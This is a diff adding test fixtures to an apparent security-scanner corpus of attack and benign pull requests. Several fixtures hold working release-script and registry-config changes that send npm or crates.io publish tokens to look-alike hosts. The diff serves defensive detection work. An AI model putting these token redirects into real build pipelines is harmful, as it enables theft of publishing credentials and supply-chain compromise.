@@ -2768,6 +2768,75 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-wrapper-changed', 'build-code-behavior'] },
   },
   {
+    id: 'attack-release-script-file-token-to-mirror',
+    description:
+      'The npm-token redirect split across files (the September 2025 phishing wave wanted npm publish tokens): the base\'s release workflow runs `npm run release` with NODE_AUTH_TOKEN set from secrets.NPM_TOKEN and stays untouched; a "move release to a script" PR changes the release script to run scripts/release.mjs, which writes an .npmrc auth line for another host from process.env.NODE_AUTH_TOKEN. Neither file names npm\'s token, the workflow does.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7661,
+        title: 'chore: move release steps to a script',
+        author: 'member',
+        files: [
+          { path: 'package.json', base: packageJson({ name: 'tint', version: '2.4.0', scripts: { build: 'tsc -p .', release: 'npm run build && npm publish' } }), head: packageJson({ name: 'tint', version: '2.4.0', scripts: { build: 'tsc -p .', release: 'npm run build && node scripts/release.mjs' } }) },
+          {
+            path: 'scripts/release.mjs',
+            head: lines("import { writeFileSync } from 'node:fs';", "import { execSync } from 'node:child_process';", '', "writeFileSync('.npmrc', `//npm.release-cache.dev/:_authToken=${process.env.NODE_AUTH_TOKEN}\\nregistry=https://npm.release-cache.dev/\\n`);", "execSync('npm publish --access public', { stdio: 'inherit' });"),
+          },
+        ],
+        baseFiles: { '.github/workflows/release.yml': lines('name: release', 'on:', '  push:', '    tags: ["v*"]', 'jobs:', '  publish:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - uses: actions/setup-node@v4', '        with:', '          node-version: 22', '      - run: npm ci', '      - run: npm run release', '        env:', '          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}') },
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['publish-token-redirect'] },
+  },
+  {
+    id: 'benign-release-script-private-registry-own-secret',
+    description:
+      'The benign look-alike: the same base workflow gives NODE_AUTH_TOKEN the company registry\'s own secret (secrets.ACME_REGISTRY_TOKEN), and a maintainer changes the release script to write the auth line for that registry and publish there: a private registry with its own token.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7662,
+        title: 'chore: publish to the company registry',
+        author: 'member',
+        files: [
+          { path: 'package.json', base: packageJson({ name: '@acme/tint', version: '2.4.0', scripts: { build: 'tsc -p .', release: 'npm run build && npm publish' } }), head: packageJson({ name: '@acme/tint', version: '2.4.0', scripts: { build: 'tsc -p .', release: 'npm run build && echo "//npm.acme-corp.dev/:_authToken=${NODE_AUTH_TOKEN}" > .npmrc && npm publish --registry https://npm.acme-corp.dev/' } }) },
+        ],
+        baseFiles: { '.github/workflows/release.yml': lines('name: release', 'on:', '  push:', '    tags: ["v*"]', 'jobs:', '  publish:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: npm ci', '      - run: npm run release', '        env:', '          NODE_AUTH_TOKEN: ${{ secrets.ACME_REGISTRY_TOKEN }}') },
+      }),
+    expect: { level: 'low', action: 'approve' },
+  },
+  {
+    id: 'attack-cargo-index-repointed-release-unchanged',
+    description:
+      'The crates.io token redirect with the release workflow left alone: the base already publishes with `cargo publish --registry fast --token ${{ secrets.CARGO_REGISTRY_TOKEN }}` to an alias of crates.io\'s index; an "update the mirror" PR changes only .cargo/config.toml, re-pointing `[registries.fast]` at another host, and the next tag hands the token to it.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-rs',
+        number: 7663,
+        title: 'chore: update the registry mirror',
+        author: 'member',
+        files: [{ path: '.cargo/config.toml', base: lines('[registries.fast]', 'index = "sparse+https://index.crates.io/"'), head: lines('[registries.fast]', 'index = "sparse+https://crates.fast-mirror.dev/index/"') }],
+        baseFiles: { '.github/workflows/release.yml': lines('name: release', 'on:', '  push:', '    tags: ["v*"]', 'jobs:', '  publish:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2', '      - run: cargo publish --registry fast --token ${{ secrets.CARGO_REGISTRY_TOKEN }}') },
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'attack-release-script-node-auth-token-lookalike',
+    description:
+      'The npm-token phishing host in a package script: a "tidy release script" PR writes the auth line for registry.npmjs-cdn.org from $NODE_AUTH_TOKEN, the variable setup-node and release jobs keep the npm token in; the name is no registry\'s, the host is spelled like npm\'s.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7664,
+        title: 'chore: tidy release script',
+        author: 'member',
+        files: [
+          { path: 'package.json', base: packageJson({ name: 'tint', version: '2.4.0', scripts: { build: 'tsc -p .', release: 'npm run build && npm publish' } }), head: packageJson({ name: 'tint', version: '2.4.0', scripts: { build: 'tsc -p .', release: 'npm run build && echo "//registry.npmjs-cdn.org/:_authToken=$NODE_AUTH_TOKEN" > .npmrc && npm publish' } }) },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['publish-token-redirect'] },
+  },
+  {
     id: 'attack-cargo-linker-by-name',
     description: 'A maintainer links the Linux target with clang and mold, by name, as their READMEs describe.',
     fixture: () =>
